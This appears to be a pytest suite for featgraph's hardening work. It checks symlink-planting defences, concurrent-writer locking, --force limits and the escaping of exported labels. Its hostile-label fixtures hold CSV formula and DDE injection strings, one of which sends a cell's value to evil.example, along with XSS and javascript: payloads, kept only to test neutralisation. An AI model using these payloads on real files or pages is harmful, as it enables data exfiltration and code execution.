"""Outputs under attack or contention (issue 21): featgraph never writes through a link planted where it keeps a
lock or staging file, two processes on one output stop with one line instead of mixing their results, and
`--force` replaces only what featgraph made."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import warnings
import xml.etree.ElementTree as ET

import networkx as nx
import numpy as np
import pandas as pd
import pytest
import torch

import featgraph as fg_api
from featgraph.errors import BadInput

from helpers import LAYER, REPO, TINY, fg, make_tiny_model, write_sae


@pytest.fixture()
def run_copy(demo_run, tmp_path):
    d = tmp_path / "run"
    shutil.copytree(demo_run, d)
    return d


def test_load_does_not_follow_a_planted_lock_link(run_copy, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    lock = run_copy / ".graph.lock"
    lock.unlink(missing_ok=True)
    (run_copy / "graph.lbdb").unlink(missing_ok=True)
    lock.symlink_to(victim)
    r = fg("load", run_copy)
    assert r.exit_code == 2 and r.stderr.startswith("error: ") and r.stderr.count("\n") == 1, r.output
    assert "symbolic link" in r.stderr and ".graph.lock" in r.stderr
    assert victim.read_text() == "keep me\n" and lock.is_symlink() and not (run_copy / "graph.lbdb").exists()
    # a link to nowhere is not created either
    lock.unlink()
    lock.symlink_to(tmp_path / "made-by-link")
    assert fg("load", run_copy).exit_code == 2 and not (tmp_path / "made-by-link").exists()
    # a hard link is locked, never truncated
    lock.unlink()
    os.link(victim, lock)
    r = fg("load", run_copy)
    assert r.exit_code == 0, r.output
    assert victim.read_text() == "keep me\n"
    assert fg_api.open_run(run_copy).query("MATCH (f:Feature) RETURN count(f) AS n")["n"][0] > 0


def _extract(tiny, out, *extra):
    model, _, sae_in, sae_out = tiny
    return fg("extract", "--model", model, "--layer", LAYER, "--sae-in", sae_in, "--sae-out", sae_out, "--top-k", 20,
              "--device", "cpu", "--no-labels", "--sae-in-id", "0-t-in", "--sae-out-id", "1-t-out", "--out", out, *extra)


def test_extract_does_not_write_through_a_planted_partial_link(tiny, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me\n")
    (tmp_path / ".run.partial").symlink_to(victim)
    r = _extract(tiny, tmp_path / "run")
    assert r.exit_code == 2 and r.stderr.count("\n") == 1 and ".run.partial" in r.stderr, r.output
    assert [p.name for p in victim.iterdir()] == ["precious.txt"] and not (tmp_path / "run").exists()


# ---------------------------------------------------------------- two processes, one output (issue 21.4)

@pytest.fixture()
def held(tmp_path):
    """Another process holding featgraph's lock on an output: call with the output's path."""
    procs = []

    def hold(out):
        code = ("import sys; from pathlib import Path; from featgraph.runs.files import output_lock\n"
                "with output_lock(Path(sys.argv[1])):\n    print('held', flush=True); sys.stdin.read()\n")
        p = subprocess.Popen([sys.executable, "-c", code, str(out)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             text=True, env=os.environ | {"PYTHONPATH": str(REPO)})
        assert p.stdout.readline().strip() == "held"
        procs.append(p)
        return p

    yield hold
    for p in procs:
        p.stdin.close()
        p.wait(timeout=60)


def test_a_second_process_on_one_output_stops_with_one_line(tiny, tmp_path, held):
    out = tmp_path / "run"
    holder = held(out)
    r = _extract(tiny, out)
    assert r.exit_code == 2 and r.stderr.count("\n") == 1, r.output
    assert "being written by another featgraph process" in r.stderr and str(out) in r.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [".run.lock"]  # the holder's; no run, no parts
    model, _, sae_in, sae_out = tiny
    saes = tmp_path / "saes"
    saes.mkdir()
    (saes / "0").symlink_to(sae_in)
    (saes / "1").symlink_to(sae_out)
    atlas = tmp_path / "atlas"
    held(atlas)
    r = fg("atlas", "--model", model, "--layers", "1", "--sae-template", str(saes / "{layer}"), "--top-k", 20,
           "--device", "cpu", "--no-labels", "--out", atlas)
    assert r.exit_code == 2 and "being written by another featgraph process" in r.stderr and not atlas.exists(), r.output
    holder.stdin.close()
    holder.wait(timeout=60)
    assert _extract(tiny, out).exit_code == 0 and not (tmp_path / ".run.lock").exists()


def _crashed(monkeypatch, **kw):
    """extract(**kw) interrupted after every matrix was finished, before the run was written: its parts stay."""
    from featgraph.runs import rundir

    def crash(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(rundir, "write_run", crash)
    with pytest.raises(KeyboardInterrupt):
        fg_api.extract(**kw)
    monkeypatch.undo()


def _resumed(seen):
    return [str(w.message) for w in seen if str(w.message).startswith("resuming")]


def test_a_part_made_under_other_settings_is_not_used(tiny, tmp_path, monkeypatch):
    model, _, sae_in, sae_out = tiny
    common = dict(model=model, layer=LAYER, sae_in=sae_in, sae_out=sae_out, device="cpu", labels=False,
                  sae_in_id="0-t-in", sae_out_id="1-t-out", heads=[0, 1])
    _crashed(monkeypatch, **common, top_k=20, out=tmp_path / "a")
    _crashed(monkeypatch, **common, top_k=10, out=tmp_path / "b")
    # a second process with top_k 10 wrote one matrix into a's folder
    shutil.copy(tmp_path / ".b.partial" / "head0_QK.npz", tmp_path / ".a.partial" / "head0_QK.npz")
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        run = fg_api.extract(**common, top_k=20, out=tmp_path / "a")
    assert _resumed(seen) and _resumed(seen)[0].startswith("resuming: 3 of 4")
    assert run.edge_table.groupby(["head", "circuit"]).size().eq(20).all()


def test_resume_starts_afresh_when_a_config_value_changed(tiny, tmp_path, monkeypatch):
    """rope_theta changes QK edges at a rope offset without changing a weight: parts made before are not reused."""
    model = tmp_path / "model"
    shutil.copytree(tiny[0], model)
    common = dict(model=model, layer=LAYER, sae_in=tiny[2], sae_out=tiny[3], device="cpu", labels=False,
                  sae_in_id="0-t-in", sae_out_id="1-t-out", heads=[0], circuits=["qk"], top_k=30, rope_offset=3)
    _crashed(monkeypatch, **common, out=tmp_path / "run")
    cfg = json.loads((model / "config.json").read_text())
    rope = cfg.get("rope_parameters") or cfg  # transformers ≥ 5 writes rope_parameters
    rope["rope_theta"] = rope["rope_theta"] / 7
    (model / "config.json").write_text(json.dumps(cfg))
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        run = fg_api.extract(**common, out=tmp_path / "run")
    assert _resumed(seen) == []
    fresh = fg_api.extract(**common)  # in memory, from the changed config
    key = ["head", "circuit", "src_index", "dst_index"]
    got, want = (t.sort_values(key).reset_index(drop=True) for t in (run.edge_table, fresh.edge_table))
    assert got[key].equals(want[key]) and np.allclose(got["weight"], want["weight"])


# ---------------------------------------------------------------- an atlas resumed after its inputs changed (21.5)

def test_atlas_resume_compares_checksums_not_paths(tmp_path):
    model = tmp_path / "model"
    make_tiny_model(model)
    for layer in (0, 1, 2):
        write_sae(tmp_path / "saes" / str(layer), TINY["hidden_size"], 30 + layer, seed=40 + layer)
    args = ["atlas", "--model", model, "--sae-template", str(tmp_path / "saes" / "{layer}"), "--top-k", 20,
            "--device", "cpu", "--no-labels", "--out", tmp_path / "atlas"]
    assert fg(*args, "--layers", "1").exit_code == 0
    # the same path, other contents: the finished layer 1 was made from the old file
    write_sae(tmp_path / "saes" / "0", TINY["hidden_size"], 30, seed=99)
    r = fg(*args, "--layers", "1-2")
    assert r.exit_code == 2 and r.stderr.count("\n") == 1, r.output
    assert "layer 1 of the atlas" in r.stderr and "the input SAE" in r.stderr and "before it changed" in r.stderr
    assert fg_api.open_run(tmp_path / "atlas").manifest.extra["layers"] == [1]
    write_sae(tmp_path / "saes" / "0", TINY["hidden_size"], 30, seed=40)  # as it was: the atlas continues
    assert fg(*args, "--layers", "1-2").exit_code == 0
    make_tiny_model(model, seed=5)  # the model rewritten in place
    r = fg(*args, "--layers", "1-2")
    assert r.exit_code == 2 and "the model" in r.stderr and "before it changed" in r.stderr, r.output


# ---------------------------------------------------------------- --force replaces only what featgraph made (21.6, 21.7)

def test_force_never_replaces_a_folder_without_featgraphs_marker(demo_run, tmp_path):
    u = tmp_path / "u"
    (u / "thesis").mkdir(parents=True)
    (u / "thesis" / "chapter1.tex").write_text("years of work\n")
    shutil.copy(demo_run / "manifest.json", u / "manifest.json")
    shutil.copy(demo_run / "edges.parquet", u / "edges.parquet")
    shutil.copy(demo_run / "features.parquet", u / "features.parquet")  # a run from before the marker, in all but name
    for args in (("import", demo_run / "edges.parquet", "--out", u), ("import", demo_run / "edges.parquet", "--out", u, "--force")):
        r = fg(*args)
        assert r.exit_code == 2 and r.stderr.count("\n") == 1, r.output
        assert "not something featgraph made" in r.stderr and "--force" not in r.stderr
    assert (u / "thesis" / "chapter1.tex").read_text() == "years of work\n"
    # such a folder still reads as the run it is
    assert len(fg_api.open_run(u).edge_table) == len(fg_api.open_run(demo_run).edge_table)


def test_atlas_force_with_a_linked_layers_folder_starts_over(tmp_path):
    model = tmp_path / "model"
    make_tiny_model(model)
    for layer in (0, 1):
        write_sae(tmp_path / "saes" / str(layer), TINY["hidden_size"], 30 + layer, seed=40 + layer)
    args = ["atlas", "--model", model, "--sae-template", str(tmp_path / "saes" / "{layer}"), "--layers", "1",
            "--device", "cpu", "--no-labels", "--out", tmp_path / "atlas"]
    assert fg(*args, "--top-k", 20).exit_code == 0
    elsewhere = tmp_path / "elsewhere"
    (tmp_path / "atlas" / "layers").rename(elsewhere)
    (tmp_path / "atlas" / "layers").symlink_to(elsewhere)
    r = fg(*args, "--top-k", 10, "--force")
    assert r.exit_code == 0, r.output
    run = fg_api.open_run(tmp_path / "atlas")
    assert run.edge_table.groupby(["head", "circuit"]).size().eq(10).all()  # not the old layer's 20
    assert not (tmp_path / "atlas" / "layers").is_symlink()
    assert (elsewhere / "L1" / "manifest.json").is_file()  # what the link pointed to is left alone


# ---------------------------------------------------------------- hostile labels in exports (21.11)

HOSTILE_LABELS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") token',
    "+cmd|' /C calc'!A0 token",
    "-2+3 token",
    "@SUM(A1:A9) token",
    "token\n| forged | row | row | row |\n| another |",
    "token <img src=x onerror=alert(1)> <script>alert(2)</script>",
    "token [click](javascript:alert(3)) ![pixel](http://evil.example/p.png) <javascript:alert(4)>",
    "token \x01 \x0b control \x1b[31m",
]


@pytest.fixture()
def hostile(demo_run, tmp_path):
    """A copy of the demo run whose first features carry hostile labels, each holding the word `token`."""
    d = tmp_path / "hostile"
    shutil.copytree(demo_run, d)
    run = fg_api.open_run(d)
    f = run.features.head(len(HOSTILE_LABELS))
    table = pd.DataFrame({"model": [i.split("/")[0] for i in f["id"]], "sae": f["sae"], "feature_index": f["feature_index"],
                          "description": HOSTILE_LABELS, "explainer": "test"})
    run.label(label_table=table)
    return d


def test_csv_cells_that_start_like_a_formula_are_neutralised(hostile):
    r = fg("search", hostile, "token", "--limit", 20, "--format", "csv")
    assert r.exit_code == 0, r.output
    cells = [v for row in csv.reader(io.StringIO(r.stdout)) for v in row]
    labels = [c for c in cells if "token" in c]
    assert labels and all(not c.startswith(("=", "+", "-", "@")) for c in labels)
    assert "'=HYPERLINK(" in r.stdout and "'@SUM(A1:A9) token" in cells and "'-2+3 token" in cells
    numbers = pd.read_csv(io.StringIO(r.stdout)).select_dtypes("number")
    assert len(numbers.columns) and (numbers.to_numpy() < 0).any()  # negative numbers stay numbers


def test_markdown_shows_labels_as_text(hostile):
    from markdown_it import MarkdownIt

    r = fg("search", hostile, "token", "--limit", 20, "--format", "md")
    assert r.exit_code == 0, r.output
    lines = r.stdout.strip().splitlines()
    assert all(line.startswith("|") and line.endswith("|") for line in lines)
    html = MarkdownIt("commonmark").enable("table").render(r.stdout)
    assert html.count("<tr>") == len(lines) - 1  # header + one per feature: no row forged by a newline
    widths = {row.count("<td") for row in html.split("<tr>")[2:]}
    assert len(widths) == 1
    for bad in ("<img", "<script", "<a ", "href=", "\x1b"):
        assert bad not in html, bad
    assert "javascript:alert(3)" in html  # still there, as text


def test_graphml_with_control_characters_is_valid_xml(hostile, tmp_path):
    out = tmp_path / "g.graphml"
    r = fg("export", hostile, "--graphml", out)
    assert r.exit_code == 0, r.output
    ET.parse(out)  # strict XML 1.0
    g = nx.read_graphml(out)
    labels = {d.get("description") for _, d in g.nodes(data=True)}
    assert "token \ufffd \ufffd control \ufffd[31m" in labels and HOSTILE_LABELS[0] in labels


# ---------------------------------------------------------------- quantized weights (21.9)

@pytest.mark.parametrize("dtype", ["int8", "bool", "float8_e4m3fn"])
def test_integer_bool_or_float8_weights_are_refused(tiny, tmp_path, dtype):
    from safetensors import safe_open
    from safetensors.torch import save_file

    model = tmp_path / "model"
    shutil.copytree(tiny[0], model)
    name = f"model.layers.{LAYER}.self_attn.q_proj.weight"
    shard = model / json.loads((model / "model.safetensors.index.json").read_text())["weight_map"][name]
    with safe_open(str(shard), framework="pt") as f:
        keys = list(f.keys())  # the handle is not iterable
        tensors, meta = {k: f.get_tensor(k) for k in keys}, f.metadata()
    tensors[name] = tensors[name].to(getattr(torch, dtype))
    save_file(tensors, str(shard), metadata=meta)
    r = _extract((model, *tiny[1:]), tmp_path / "run")
    assert r.exit_code == 2 and r.stderr.count("\n") == 1, r.output
    assert name in r.stderr and dtype in r.stderr and not (tmp_path / "run").exists()
    # a state dict in memory is refused the same way
    sd = {k: v.to(getattr(torch, dtype)) if k == name else v for k, v in tiny[1].state_dict().items()}
    with pytest.raises(BadInput, match=dtype):
        fg_api.extract(model=(sd, tiny[1].config), layer=LAYER, sae_in=tiny[2], sae_out=tiny[3], device="cpu",
                       labels=False, sae_in_id="0-t-in", sae_out_id="1-t-out")


# ---------------------------------------------------------------- leftovers and errors (21.12)

def test_staging_leftovers_of_killed_runs_are_removed(tiny, tmp_path):
    for name in (".run.tmp-k1ll3d", ".run.old-k1ll3d"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "edges.parquet").write_bytes(b"half")
    (tmp_path / ".other.tmp-keep").mkdir()  # another output's
    assert _extract(tiny, tmp_path / "run").exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == [".other.tmp-keep", "run"]


def test_atlas_removes_its_layers_leftovers(tmp_path):
    model = tmp_path / "model"
    make_tiny_model(model)
    for layer in (0, 1, 2):
        write_sae(tmp_path / "saes" / str(layer), TINY["hidden_size"], 30 + layer, seed=40 + layer)
    args = ["atlas", "--model", model, "--sae-template", str(tmp_path / "saes" / "{layer}"), "--top-k", 20,
            "--device", "cpu", "--no-labels", "--out", tmp_path / "atlas", "--layers", "1"]
    assert fg(*args).exit_code == 0
    layers = tmp_path / "atlas" / "layers"
    for name in (".L1.tmp-k1ll3d", ".L2.tmp-k1ll3d", ".L1.old-k1ll3d", ".L1.partial", ".L2.partial"):
        (layers / name).mkdir()
    assert fg(*args).exit_code == 0  # nothing to compute: it resumes, and tidies
    assert sorted(p.name for p in layers.iterdir()) == [".L2.partial", "L1"]  # layer 2's parts may be resumed


def test_an_npz_header_claiming_a_huge_array_is_refused_by_its_header(tiny, tmp_path):
    import zipfile

    d_in, d_sae = TINY["hidden_size"], 80_000_000  # W_enc alone would be 14 GiB, the whole SAE 29 GiB
    shapes = {"W_enc": (d_in, d_sae), "W_dec": (d_sae, d_in), "b_enc": (d_sae,), "b_dec": (d_in,), "threshold": (d_sae,)}
    sae = tmp_path / "huge" / "params.npz"
    sae.parent.mkdir()
    with zipfile.ZipFile(sae, "w") as zf:
        for k, shape in shapes.items():
            buf = io.BytesIO()
            np.lib.format.write_array_header_1_0(buf, {"descr": "<f4", "fortran_order": False, "shape": shape})
            zf.writestr(f"{k}.npy", buf.getvalue() + b"\0" * 64)
    model, m, _, sae_out = tiny
    r = _extract((model, m, sae, sae_out), tmp_path / "run")
    assert r.exit_code == 2 and r.stderr.count("\n") == 1, r.output
    assert "claims shape" in r.stderr and "corrupt" in r.stderr and not (tmp_path / "run").exists()


def test_a_lone_surrogate_in_a_label_file_is_replaced(run_copy, tmp_path):
    f = fg_api.open_run(run_copy).features.iloc[0]
    labels = tmp_path / "labels.json"
    row = {"modelId": f["id"].split("/")[0], "layer": f["sae"], "index": int(f["feature_index"]), "description": "half \ud83d pair"}
    labels.write_text(json.dumps({"explanations": [row]}))  # json writes the lone surrogate as the escape \ud83d
    r = fg("labels", run_copy, "--source", labels)
    assert r.exit_code == 0, r.output
    got = fg_api.open_run(run_copy).features.set_index("id").loc[f["id"], "description"]
    assert got == "half \ufffd pair"
    assert fg("search", run_copy, "half", "--format", "json").exit_code == 0


# ---------------------------------------------------------------- validate's prompt files (21.8, in part)

def test_prompt_files_split_on_newlines_only(tmp_path):
    from featgraph.api.validate import read_prompts

    text = tmp_path / "p.txt"
    text.write_bytes("one\x0cstill one\x85and\u2028one\r\ntwo\x0b2\n\nthree".encode())
    assert read_prompts(text) == ["one\x0cstill one\x85and\u2028one", "two\x0b2", "three"]
    rows = tmp_path / "p.jsonl"
    rows.write_text("\n".join(json.dumps({"text": t}, ensure_ascii=False) for t in ("a\u2028b", "c\u2029d\x85e")) + "\r\n")
    assert read_prompts(rows) == ["a\u2028b", "c\u2029d\x85e"]


def test_text_prompts_need_the_models_tokenizer(tiny, tmp_path):
    assert not any((tiny[0] / f).exists() for f in ("tokenizer.json", "tokenizer_config.json"))
    assert _extract(tiny, tmp_path / "run").exit_code == 0
    r = fg("validate", tmp_path / "run", "--prompt", "the cat sat", "--device", "cpu", "--format", "json")
    assert r.exit_code == 2 and r.stderr.count("\n") == 1 and "no tokenizer files" in r.stderr, r.output
    assert not (tmp_path / "run" / "validation.parquet").exists()


# ---------------------------------------------------------------- validate cuts a long prompt before tokenizing it (21.8)

def _trained_tokenizers(tmp_path):
    """The demo's word-level tokenizer and three trained here on a few words: a byte-level BPE with GPT-2's
    pre-tokenizer, and a BPE and a Unigram over the whole text (spaces as ▁, no pre-tokenizer: Gemma's and Llama 2's
    layout)."""
    from tokenizers import Tokenizer, decoders, models, normalizers, pre_tokenizers, trainers
    from transformers import AutoTokenizer, PreTrainedTokenizerFast

    from featgraph.api.demo import write_tokenizer

    write_tokenizer(tmp_path, 300)
    toks = {"word-level": AutoTokenizer.from_pretrained(tmp_path)}
    corpus = ["the cat sat on the mat, and the dog ran to the park.", "1234 5678 == != <= >=   tabs\tand\nnew lines",
              "attention heads attend to keys; queries ask", "éàü 漢字 emoji 🙂 mixed"] * 20
    byte = Tokenizer(models.BPE())
    byte.pre_tokenizer = pre_tokenizers.ByteLevel(add_prefix_space=False)
    byte.decoder = decoders.ByteLevel()
    byte.train_from_iterator(corpus, trainers.BpeTrainer(vocab_size=400, initial_alphabet=pre_tokenizers.ByteLevel.alphabet()))
    toks["byte-level BPE"] = PreTrainedTokenizerFast(tokenizer_object=byte)
    whole = Tokenizer(models.BPE(unk_token="<unk>"))
    whole.normalizer = normalizers.Replace(" ", "▁")
    whole.train_from_iterator(corpus, trainers.BpeTrainer(vocab_size=400, special_tokens=["<unk>"], max_token_length=12))
    toks["unsplit BPE"] = PreTrainedTokenizerFast(tokenizer_object=whole)
    uni = Tokenizer(models.Unigram())
    uni.normalizer = normalizers.Replace(" ", "▁")
    uni.train_from_iterator(corpus, trainers.UnigramTrainer(vocab_size=120, unk_token="<unk>", special_tokens=["<unk>"]))
    toks["unsplit Unigram"] = PreTrainedTokenizerFast(tokenizer_object=uni)  # Viterbi over the whole text
    return toks


def test_truncated_ids_equal_the_whole_texts_ids_cut(tmp_path):
    from featgraph.api.validate import truncated_ids

    rng = np.random.default_rng(0)
    pieces = ["the", "cat", "sat", " ", "  ", "\t", "\n", ".", ",", "12", "345", "==", "🙂", "漢字", "é", "attention", "mat",
              "zzzz", "queries", "▁", "a" * 30]
    for name, tok in _trained_tokenizers(tmp_path).items():
        def encode(t, tok=tok):
            return list(tok(t)["input_ids"])

        for _ in range(60):
            text = "".join(rng.choice(pieces, size=int(rng.integers(1, 3000))))
            for m in (1, 3, 16, 100):
                assert truncated_ids(encode, text, m) == encode(text)[:m], (name, m, text[:80])
        assert truncated_ids(encode, "the cat", None) == encode("the cat")


def test_validate_does_not_tokenize_all_of_a_huge_line(demo_run, tmp_path, monkeypatch):
    from transformers import AutoTokenizer

    line = tmp_path / "big.txt"
    line.write_text("the cat of and to a in is that it for was on are as with " * 40_000 + "\n")  # 2.3 MB, one line
    load, seen = AutoTokenizer.from_pretrained, []

    def counting(*a, **kw):
        tok = load(*a, **kw)

        class Counting(type(tok)):
            def __call__(self, text, *args, **kwargs):
                seen.append(len(text))
                return super().__call__(text, *args, **kwargs)

        tok.__class__ = Counting
        return tok

    monkeypatch.setattr(AutoTokenizer, "from_pretrained", counting)
    r = fg("validate", demo_run, "--text-file", line, "--max-tokens", 16, "--heads", 0, "--device", "cpu", "--format", "json")
    assert r.exit_code == 0, r.output
    assert "1 prompts, 16 tokens" in r.stderr and json.loads(r.stdout)[0]["pairs"] == 16 * 17 // 2  # causal QK pairs
    assert seen and sum(seen) < 20_000, seen  # the whole line was 2.3 million characters
    assert "longer than the specified maximum" not in r.stderr


def test_tetrad_csv_neutralises_labels_that_start_like_a_formula(demo_run, tmp_path):
    """tetrads --out FILE.csv writes the four features' labels (issue 21.11: every CSV featgraph writes of labels)."""
    d = shutil.copytree(demo_run, tmp_path / "run")
    run = fg_api.open_run(d)
    f = run.features
    run.label(label_table=pd.DataFrame({"model": [i.split("/")[0] for i in f["id"]], "sae": f["sae"], "feature_index": f["feature_index"],
                                        "description": [f"=HYPERLINK(\"http://evil.example/{i}\") @{i}" for i in range(len(f))],
                                        "explainer": "test"}))
    r = fg("tetrads", d, "--head", 0, "--circuit", "ov", "--out", tmp_path / "t.csv")
    assert r.exit_code == 0, r.output
    text = (tmp_path / "t.csv").read_text()
    cells = [v for row in csv.reader(io.StringIO(text)) for v in row]
    assert "'=HYPERLINK(" in text and not any(c.startswith(("=", "+", "@")) for c in cells), text[:500]
    assert (pd.read_csv(tmp_path / "t.csv").select_dtypes("number").to_numpy() < 0).any()  # negative numbers stay numbers


def test_load_force_without_neo4j_is_one_line(run_copy):
    r = fg("load", run_copy, "--force")
    assert r.exit_code == 2 and r.stderr.count("\n") == 1 and "--neo4j" in r.stderr, r.output
